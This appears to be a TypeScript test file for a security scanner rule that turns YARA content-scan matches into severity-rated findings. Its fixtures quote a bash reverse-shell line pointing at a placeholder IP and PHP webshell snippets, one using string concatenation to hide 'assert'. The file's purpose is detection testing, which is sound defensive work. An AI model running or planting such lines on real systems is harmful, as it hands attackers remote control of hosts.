import type { ContentMatch, ContentScanFact } from '../../collect/content/content-scan';
import { testRule } from '../../../test/helpers/rule-tester';
import rule from './content-match';

function fact(...matches: ContentMatch[]): ContentScanFact {
  return { engine: 'yara-x', ruleCount: 11, filesScanned: matches.length, bytesScanned: 1000, ms: 1, matches };
}

const base = { offset: 0, size: 120, mtime: '2026-11-20T03:00:00.000Z' };

testRule(rule, {
  valid: [
    { name: 'files scanned, nothing matched', facts: { contentScan: fact() } },
    { name: 'content scan unavailable (no engine)', facts: { contentScan: { ...fact(), engine: null } } },
  ],
  invalid: [
    {
      name: 'a reverse shell in a hidden script quotes the command line',
      facts: {
        contentScan: fact({
          ...base,
          path: '/root/.config/.s',
          id: 'reverse-shell',
          rule: 'reverse_shell',
          severity: 'high',
          attack: 'T1059.004',
          description: 'Reverse shell: an interactive shell wired to a network connection',
          zh: '反向连接终端',
          offset: 42,
          excerpts: ['  bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
        }),
      },
      expect: [
        {
          severity: 'high',
          path: '/root/.config/.s',
          title: /Content rule reverse-shell matched: \/root\/\.config\/\.s/,
          evidence: /match 1 at byte 42: {3}bash -i >& \/dev\/tcp\/203\.0\.113\.9\/4444 0>&1/,
        },
      ],
    },
    {
      name: 'the content rule sets the severity; several excerpts are all quoted',
      facts: {
        contentScan: fact({
          ...base,
          path: '/var/www/html/up/a.png.php',
          id: 'php-webshell',
          rule: 'php_webshell',
          severity: 'critical',
          attack: 'T1505.003',
          excerpts: ['<?php @eval($_POST["x"]);', "$f = 'as' . 'sert';"],
        }),
      },
      expect: [{ severity: 'critical', evidence: /match 2: \$f = 'as' \. 'sert';/ }],
    },
    {
      name: "a user's rule without metadata is medium and named by its rule",
      facts: { contentScan: fact({ ...base, path: '/opt/x/run', id: 'my_marker', rule: 'my_marker', excerpts: ['MARKER-42'] }) },
      expect: [{ severity: 'medium', title: /Content rule my_marker matched/, evidence: /YARA rule my_marker/ }],
    },
  ],
});
